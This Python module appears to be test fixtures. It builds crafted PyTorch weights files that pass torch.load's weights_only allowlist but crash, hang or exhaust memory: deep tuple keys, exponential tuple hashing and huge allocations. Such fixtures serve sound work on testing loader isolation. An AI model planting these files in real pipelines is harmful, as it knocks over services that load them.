"""Small weights files crafted to crash, freeze or flood a process that reads them with
`torch.load(weights_only=True)`: each one passes PyTorch's allowlist, so only isolation stops it.

Each builder returns the file's bytes: a legacy (pre-zip) PyTorch file, whose header is three
small pickles PyTorch checks (magic number, protocol version, system info) and whose fourth
pickle is the object, written here opcode by opcode.
"""
import pickle

from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

HEADER = (pickle.dumps(MAGIC_NUMBER, protocol=2) + pickle.dumps(PROTOCOL_VERSION, protocol=2)
          + pickle.dumps({"protocol_version": PROTOCOL_VERSION, "little_endian": True,
                          "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2))


STORAGE_KEYS = pickle.dumps([], protocol=2)        # the legacy file's list of storages that follow: none


def _legacy(object_pickle: bytes, protocol: int = 2) -> bytes:
    return HEADER + bytes([0x80, protocol]) + object_pickle + b"." + STORAGE_KEYS


def deep_tuple_key(depth: int = 1_000_000) -> bytes:
    """{((((...)))): 1}: a tuple nested `depth` deep (one byte a level) as a dict key; hashing it
    recurses in C once per level and overflows the stack (SIGSEGV)."""
    return _legacy(b"}" + b")" + b"\x85" * depth + b"K\x01s")


def tuple_dag_key(levels: int = 60) -> bytes:
    """{t60: 1} where t0 = () and t(i+1) = (t(i), t(i)) through the pickle memo: 60 levels in a few
    hundred bytes, and a hash that visits 2**60 tuples (it never ends, holding the GIL)."""
    body = b")q\x00"                                   # (), memo 0, left on the stack
    for level in range(levels):                         # (t, memo[level]) -> t(level + 1), memo level + 1
        body += b"h" + bytes([level]) + b"\x86q" + bytes([level + 1])
    return _legacy(b"}" + body + b"K\x01s")


def huge_bytearray(size: int = 3_000_000_000) -> bytes:
    """{'w': bytearray(size)}: `builtins.bytearray` is on the allowlist; a few bytes allocate and
    zero-fill `size`."""
    return _legacy(b"}X\x01\x00\x00\x00wcbuiltins\nbytearray\n" + b"\x8a\x05" + size.to_bytes(5, "little")
                   + b"\x85Rs")


def empty_sets(count: int) -> bytes:
    """`count` EMPTY_SET opcodes: about 216 bytes of memory for each byte of the file."""
    return _legacy(b"\x8f" * count, protocol=4)
